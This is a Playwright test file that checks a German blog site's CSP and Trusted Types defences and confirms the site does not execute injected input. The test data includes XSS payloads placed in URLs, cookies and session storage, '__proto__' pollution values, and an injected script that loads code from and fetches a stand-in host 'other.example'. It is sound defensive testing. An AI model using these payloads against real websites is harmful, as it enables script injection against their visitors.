import { started, visit } from './support/page.ts'
import { expect, type Page, test } from './support/test.ts'

const article = '/blog/nis2-richtlinie-umsetzung'

// Also on a host that sends no headers.
test('the policy of the page itself blocks what came in', async ({ page, expected }) => {
  expected.push(/Content Security Policy|Trusted|other\.example/)
  await page.route('**/*', async (route) => {
    const response = await route.fetch()
    const { 'content-security-policy': _, ...headers } = response.headers()
    await route.fulfill({ response, headers })
  })
  const blocked: string[] = []
  await page.exposeFunction('note', (violation: string) => blocked.push(violation))
  await page.addInitScript(() =>
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
      (window as unknown as { note: (text: string) => void }).note(effectiveDirective),
    ),
  )
  await visit(page, article)
  const body = `import('https://other.example/a.js').catch(() => {})
    try { document.body.innerHTML = '<b></b>' } catch {}
    fetch('https://other.example/').catch(() => {})`
  await page.route('**/assets/attack.js', (route) => route.fulfill({ contentType: 'text/javascript', body }))
  await page.evaluate(() => import('/assets/attack.js' as string))
  await expect
    .poll(() => [...new Set(blocked)].sort())
    .toEqual(['connect-src', 'require-trusted-types-for', 'script-src-elem'])
})

/** A page that notes it if a script of somebody else runs. */
async function watchAttacks(page: Page): Promise<string[]> {
  const attacks: string[] = []
  await page.exposeFunction('attack', () => attacks.push('attack'))
  page.on('dialog', (dialog) => {
    attacks.push('dialog')
    return dialog.dismiss()
  })
  return attacks
}

test('no other script can take the policy that inserts articles', async ({ page, expected }) => {
  expected.push(/Trusted|policy/i)
  await visit(page, '/')
  const taken = () => {
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): void }
    }
    trustedTypes.createPolicy('article', {})
  }
  await expect(page.evaluate(taken)).rejects.toThrow(/article/)
})

test('what a visitor brings along in an address, the cookie and the storage runs nothing', async ({
  page,
  baseURL,
  expected,
}) => {
  expected.push(/status of (400|404)/)
  const attacks = await watchAttacks(page)
  const scripts = ['<script>attack()</script>', '"><img src=x onerror=attack()>', "';attack();//"]
  const all = encodeURIComponent(scripts.join(' '))
  for (const address of [
    `/blog?suche=${all}&tag=${all}`,
    `${article}?${scripts}#${scripts}`,
    `${article}?%E0%A4%A`,
  ])
    await visit(page, address)
  for (const anchor of ['#root', '#section-', '#note:', '#top', '#__proto__'])
    await page.evaluate((hash) => {
      window.location.hash = hash
    }, anchor)
  await page.reload()
  await started(page)
  const value = encodeURIComponent('<script>attack()</script>')
  const url = baseURL ?? ''
  await page.context().addCookies([
    { url, name: 'cookie-consent', value },
    { url, name: 'language', value: '__proto__' },
  ])
  await page.evaluate(() => {
    sessionStorage.setItem('message-full', '{"__proto__":{"de":1}}')
  })
  await visit(page, '/kontakt')
  await expect(page.getByRole('region', { name: 'Cookies' })).toBeVisible()
  await expect(page.locator('html')).toHaveAttribute('lang', 'de')
  expect(attacks).toEqual([])
})
